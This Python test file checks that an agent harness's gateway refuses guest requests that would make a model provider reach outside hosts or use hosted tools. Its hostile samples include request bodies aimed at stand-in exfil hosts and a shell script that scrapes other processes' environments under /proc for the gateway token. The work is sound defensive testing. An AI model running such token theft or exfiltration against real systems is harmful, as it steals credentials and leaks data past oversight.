"""A guest asks the model provider to reach out for it: a command turn whose
shell holds the turn's token POSTs Messages requests that would make the
provider fetch a URL (an image or document with a url source), use a file
of the key's account, connect to an MCP server, run its own fetch, search
or code tools, or answer with another model. Each is refused with a 400
naming the field, recorded as a gateway event, and a raw upstream on
127.0.0.1, which parses nothing and keeps every byte, receives none of
them; a plain request still arrives, with the real key. Then the same on
the Responses API from inside a real Codex turn: its shell finds the
turn's token and POSTs image and file URLs, hosted tools and stored
state; the scripted upstream's request log holds none of them, while
Codex's own requests pass and the turn ends done."""

import json
import pathlib
import sys
import unittest

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent))
from agent_harness import (h, new_canary, RawUpstreamTurn, ScriptedUpstream,  # noqa: E402
                           engine_with_upstream, run_turn)

MODEL = "claude-sonnet-4-5"


def body(messages=None, **extra):
    request = {"model": MODEL, "max_tokens": 1,
               "messages": messages or [{"role": "user", "content": "hi"}]}
    request.update(extra)
    return request


def user(*blocks):
    return [{"role": "user", "content": list(blocks)}]


# name: (path, body, anthropic-beta, the field the refusal names). Every
# hostile body carries "exfil-" in what it would make the provider reach.
HOSTILE = {
    "image-url": ("/v1/messages", body(user(
        {"type": "image", "source": {"type": "url", "url": "https://exfil-image.example/?d=secret"}})),
        None, "messages[0].content[0].source.type: url"),
    "document-url": ("/v1/messages", body(user(
        {"type": "document", "source": {"type": "url", "url": "https://exfil-doc.example/a.pdf"}})),
        None, "messages[0].content[0].source.type: url"),
    "image-file-id": ("/v1/messages", body(user(
        {"type": "image", "source": {"type": "file", "file_id": "file_exfil-id"}})),
        "files-api-2025-04-14", "anthropic-beta: files-api-2025-04-14"),
    "image-file-id-no-beta": ("/v1/messages", body(user(
        {"type": "image", "source": {"type": "file", "file_id": "file_exfil-id2"}})),
        None, "messages[0].content[0].source.type: file"),
    "mcp-servers": ("/v1/messages", body(mcp_servers=[
        {"type": "url", "url": "https://exfil-mcp.example/sse", "name": "x"}]),
        None, "mcp_servers"),
    "mcp-beta": ("/v1/messages", body(), "mcp-client-2025-04-04", "anthropic-beta: mcp-client-2025-04-04"),
    "web-fetch": ("/v1/messages", body(
        user({"type": "text", "text": "fetch https://exfil-fetch.example/"}),
        tools=[{"type": "web_fetch_20250910", "name": "web_fetch", "max_uses": 5}]),
        None, "tools[0].type: web_fetch_20250910"),
    "web-fetch-beta": ("/v1/messages", body(user({"type": "text", "text": "exfil-fetch-beta"})),
                       "web-fetch-2025-09-10", "anthropic-beta: web-fetch-2025-09-10"),
    # Claude Code's WebSearch, as it asks: refused in a default folder.
    "web-search": ("/v1/messages", body(
        user({"type": "text", "text": "Perform a web search for the query: exfil-search"}),
        tools=[{"type": "web_search_20250305", "name": "web_search", "max_uses": 8}]),
        None, "tools[0].type: web_search_20250305"),
    "code-execution": ("/v1/messages", body(
        user({"type": "text", "text": "curl exfil-code.example"}),
        tools=[{"type": "code_execution_20250825", "name": "code_execution"}]),
        None, "tools[0].type: code_execution_20250825"),
    "container": ("/v1/messages", body(container="container_exfil-c"), None, "container"),
    "container-upload": ("/v1/messages", body(user(
        {"type": "container_upload", "file_id": "file_exfil-upload"})),
        None, "messages[0].content[0].type: container_upload"),
    "count-tokens-mcp": ("/v1/messages/count_tokens", {
        "model": MODEL, "messages": [{"role": "user", "content": "hi"}],
        "mcp_servers": [{"type": "url", "url": "https://exfil-count.example/", "name": "x"}]},
        None, "mcp_servers"),
    "model": ("/v1/messages", dict(body(user({"type": "text", "text": "exfil-model"})),
                                   model="claude-3-opus-20240229"),
              None, 'model "claude-3-opus-20240229"'),
    "not-json": ("/v1/messages", "exfil-not-json {", None, "body"),
}

GUEST_SCRIPT = r"""
hostport=${ANTHROPIC_BASE_URL#http://}
H=${hostport%:*}
P=${hostport##*:}
K=$ANTHROPIC_API_KEY
[ -n "$K" ] || { echo "no token in the environment"; exit 3; }
# post NAME: sends $HOME/fetch/NAME.body to $HOME/fetch/NAME.path (with
# NAME.beta as anthropic-beta, if there is one) and prints the status line
# and the error message of the reply.
post() {
    local name=$1 path beta length reply
    path=$(cat "$HOME/fetch/$name.path")
    length=$(wc -c < "$HOME/fetch/$name.body")
    beta=
    [ -f "$HOME/fetch/$name.beta" ] && beta="anthropic-beta: $(cat "$HOME/fetch/$name.beta")\r\n"
    exec 3<>/dev/tcp/$H/$P || { echo "$name: no connection"; return; }
    { printf "POST $path?beta=true HTTP/1.1\r\nHost: gw\r\nx-api-key: %s\r\nanthropic-version: 2023-06-01\r\n${beta}content-type: application/json\r\nConnection: close\r\nContent-Length: %d\r\n\r\n" "$K" "$length"
      cat "$HOME/fetch/$name.body"; } >&3
    reply=$(timeout 30 cat <&3)
    exec 3<&-
    status=$(printf '%s' "$reply" | head -n1 | tr -d '\r')
    echo "$name: ${status:-no reply} | $(printf '%s' "$reply" | tail -n1 | head -c 400)"
}
for file in $HOME/fetch/*.path; do
    name=$(basename "$file" .path)
    post "$name"
done
"""


class GatewayProviderFetch(RawUpstreamTurn):
    @classmethod
    def _run(cls):
        cls.engine.add_folder("corp")
        home = cls.engine.home("corp")
        fetch = home / "fetch"
        fetch.mkdir()
        requests = dict(HOSTILE)
        # Last in the glob's order: the plain request, which must arrive.
        requests["zz-plain"] = ("/v1/messages", body(), "claude-code-20250219", None)
        for name, (path, request, beta, _) in requests.items():
            (fetch / f"{name}.path").write_text(path)
            (fetch / f"{name}.body").write_text(request if isinstance(request, str) else json.dumps(request))
            if beta:
                (fetch / f"{name}.beta").write_text(beta)
        (home / "fetch.sh").write_text(GUEST_SCRIPT)
        result = cls.engine.run("run", "--agent", "command", "corp", "bash $HOME/fetch.sh", timeout=600)
        cls.returncode, cls.stderr = result.returncode, result.stderr
        cls.name = h.turn_name_from(result.stderr)
        cls.events = cls.engine.events(cls.name)
        cls.lines = {}
        for event in cls.events:
            line = event["json"].get("line", "") if event["kind"] == "event" else ""
            name, _, rest = line.partition(": ")
            if name in requests:
                cls.lines[name] = rest

    def test_the_turn_ran_to_its_end(self):
        self.assertEqual(self.returncode, 0, self.stderr)
        self.assertEqual(set(self.lines), set(HOSTILE) | {"zz-plain"}, self.lines)

    def test_each_is_refused_with_a_400_naming_the_field(self):
        for name, (_, _, _, field) in HOSTILE.items():
            with self.subTest(name):
                status, _, message = self.lines.get(name, "").partition(" | ")
                self.assertEqual(status, "HTTP/1.1 400 Bad Request", self.lines.get(name))
                error = json.loads(message)
                self.assertEqual(error["type"], "error", message)
                self.assertEqual(error["error"]["type"], "invalid_request_error", message)
                self.assertIn(field, error["error"]["message"])

    def test_each_refusal_is_a_gateway_event(self):
        refusals = [e["json"] for e in self.events if e["kind"] == "gateway"]
        fields = sorted(r.get("field") for r in refusals if r.get("reason") == "body")
        self.assertEqual(fields, sorted(field for _, _, _, field in HOSTILE.values()), refusals)
        for refusal in refusals:
            self.assertEqual(refusal.get("status"), 400, refusal)

    def test_nothing_hostile_reached_the_upstream(self):
        received = self.upstream.received()
        everything = b"".join(received)
        at = everything.find(b"exfil")
        self.assertEqual(at, -1, f"a hostile request reached the upstream: {everything[max(0, at - 300):at + 100]!r}")
        for beta in (b"mcp-client", b"web-fetch", b"files-api"):
            self.assertNotIn(beta, everything)
        self.assertEqual(len(received), 1, [r[:300] for r in received])

    def test_a_plain_request_arrives_with_the_real_key(self):
        self.assertTrue(self.lines.get("zz-plain", "").startswith("HTTP/1.1 200 OK"), self.lines)
        (plain,) = self.upstream.received()
        self.assertTrue(plain.startswith(b"POST /v1/messages?beta=true HTTP/1.1\r\n"), plain[:200])
        self.assertIn(b"x-api-key: " + self.canary.encode(), plain)
        self.assertIn(b"anthropic-beta: claude-code-20250219", plain)
        self.assertEqual(json.loads(plain.split(b"\r\n\r\n", 1)[1]), body())


def responses(**extra):
    request = {"model": "gpt-5.2", "stream": True, "input": "hi"}
    request.update(extra)
    return request


def user_parts(*parts):
    return [{"type": "message", "role": "user", "content": list(parts)}]


RESPONSES_HOSTILE = {
    "input-image-url": (responses(input=user_parts(
        {"type": "input_image", "image_url": "https://exfil-image.example/?d=secret"})),
        "input[0].content[0].image_url"),
    "input-image-file-id": (responses(input=user_parts({"type": "input_image", "file_id": "file-exfil"})),
                            "input[0].content[0].file_id"),
    "input-file-url": (responses(input=user_parts(
        {"type": "input_file", "file_url": "https://exfil-file.example/a.pdf"})),
        "input[0].content[0].file_url"),
    "tool-output-image-url": (responses(input=[
        {"type": "function_call_output", "call_id": "c1",
         "output": [{"type": "input_image", "image_url": "http://exfil-output.example/x.png"}]}]),
        "input[0].output[0].image_url"),
    "item-reference": (responses(input=[{"type": "item_reference", "id": "msg_exfil"}]),
                       "input[0].type: item_reference"),
    "mcp-tool": (responses(tools=[{"type": "mcp", "server_label": "x",
                                   "server_url": "https://exfil-mcp.example/mcp"}]), "tools[0].type: mcp"),
    "file-search": (responses(tools=[{"type": "file_search", "vector_store_ids": ["vs_exfil"]}]),
                    "tools[0].type: file_search"),
    "code-interpreter": (responses(tools=[{"type": "code_interpreter", "container": {"type": "auto"}}],
                                   input="exfil-code"), "tools[0].type: code_interpreter"),
    "web-search": (responses(tools=[{"type": "web_search"}], input="exfil-search"), "tools[0].type: web_search"),
    "previous-response": (responses(previous_response_id="resp_exfil"), "previous_response_id"),
    "conversation": (responses(conversation="conv_exfil"), "conversation"),
    "store": (responses(store=True, input="exfil-store"), "store: true"),
    "background": (responses(background=True, input="exfil-background"), "background"),
    "prompt": (responses(prompt={"id": "pmpt_exfil"}), "prompt"),
    "model": (responses(model="gpt-4.1", input="exfil-model"), 'model "gpt-4.1"'),
}

# Codex's shell does not inherit the token; a hostile one finds it in the
# environment of the Codex process, and the gateway in its config.
RESPONSES_SCRIPT = r"""
K=$(for f in /proc/[0-9]*/environ; do tr '\0' '\n' < "$f" 2>/dev/null; done |
    sed -n 's/^ARIZUKO_GATEWAY_TOKEN=//p' | head -n1)
C=$(for f in /proc/[0-9]*/environ; do tr '\0' '\n' < "$f" 2>/dev/null; done |
    sed -n 's/^CODEX_HOME=//p' | head -n1)
base=$(sed -n 's/^base_url = "http:\/\/\(.*\)\/v1"$/\1/p' "$C/config.toml" | head -n1)
H=${base%:*}
P=${base##*:}
[ -n "$K" ] && [ -n "$H" ] || { echo "responses: no token or gateway found ($C)"; exit 0; }
# All at once: each process start is slow under TCG, and Codex's command
# must end before its turn does.
ask() {
    local file=$1 name length reply
    name=$(basename "$file" .body)
    length=$(wc -c < "$file")
    exec 3<>/dev/tcp/$H/$P || { echo "$name: no connection" > "$file.out"; return; }
    { printf "POST /v1/responses HTTP/1.1\r\nHost: gw\r\nAuthorization: Bearer %s\r\ncontent-type: application/json\r\nConnection: close\r\nContent-Length: %d\r\n\r\n" "$K" "$length"
      cat "$file"; } >&3
    reply=$(timeout 60 cat <&3)
    exec 3<&-
    echo "$name: $(printf '%s' "$reply" | head -n1 | tr -d '\r') | $(printf '%s' "$reply" | tail -n1 | head -c 400)" > "$file.out"
}
for file in $HOME/responses/*.body; do
    ask "$file" &
done
wait
cat $HOME/responses/*.out >> $HOME/responses.out
echo finished >> $HOME/responses.out
"""

CODEX_SCRIPT = {"name": "provider-fetch", "exchanges": [{"prompt": "*", "steps": [
    {"text": "Asking the provider.",
     "tool_use": {"name": "exec_command", "input": {"cmd": "bash $HOME/responses.sh", "yield_time_ms": 300000}}},
    {"text": "Asked."}]}]}


class CodexProviderFetch(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        h.require_guest_image()
        cls.canary = new_canary("sk-proj-CANARY-")
        cls.upstream = ScriptedUpstream(CODEX_SCRIPT)
        cls.engine = engine_with_upstream(cls.upstream, cls.canary, secret="OPENAI_API_KEY")
        try:
            cls.engine.add_folder("corp")
            home = cls.engine.home("corp")
            (home / "responses").mkdir()
            for name, (request, _) in RESPONSES_HOSTILE.items():
                (home / "responses" / f"{name}.body").write_text(json.dumps(request))
            (home / "responses.sh").write_text(RESPONSES_SCRIPT)
            cls.turn = run_turn(cls.engine, "corp", "ask the provider", "--agent", "codex",
                                "--model", "gpt-5.2", "--deadline", "600", timeout=720)
            out = home / "responses.out"
            cls.lines = {}
            for line in (out.read_text().splitlines() if out.exists() else []):
                name, _, rest = line.partition(": ")
                cls.lines[name] = rest
        except BaseException:
            cls.engine.close()
            cls.upstream.close()
            raise

    @classmethod
    def tearDownClass(cls):
        cls.engine.close()
        cls.upstream.close()

    def test_codexs_own_requests_pass_and_the_turn_is_done(self):
        self.assertEqual(self.turn["result"].returncode, 0, self.turn["result"].stderr)
        self.assertEqual(self.turn["turn"]["state"], "done")
        self.assertGreaterEqual(len(self.upstream.requests("/v1/responses")), 2)

    def test_each_is_refused_with_a_400_naming_the_field(self):
        self.assertIn("finished", self.lines, self.lines)
        for name, (_, field) in RESPONSES_HOSTILE.items():
            with self.subTest(name):
                status, _, message = self.lines.get(name, "").partition(" | ")
                self.assertEqual(status, "HTTP/1.1 400 Bad Request", self.lines.get(name))
                error = json.loads(message)["error"]
                self.assertEqual(error["type"], "invalid_request_error", message)
                self.assertIn(field, error["message"])

    def test_each_refusal_is_a_gateway_event(self):
        refusals = [e["json"] for e in self.turn["events"] if e["kind"] == "gateway"]
        fields = sorted(r.get("field") for r in refusals if r.get("reason") == "body")
        self.assertEqual(fields, sorted(field for _, field in RESPONSES_HOSTILE.values()), refusals)

    def test_nothing_hostile_reached_the_upstream(self):
        log = self.upstream.log.read_text() if self.upstream.log.exists() else ""
        at = log.find("exfil")
        self.assertEqual(at, -1, f"a hostile request reached the upstream: {log[max(0, at - 300):at + 100]!r}")


if __name__ == "__main__":
    h.main()
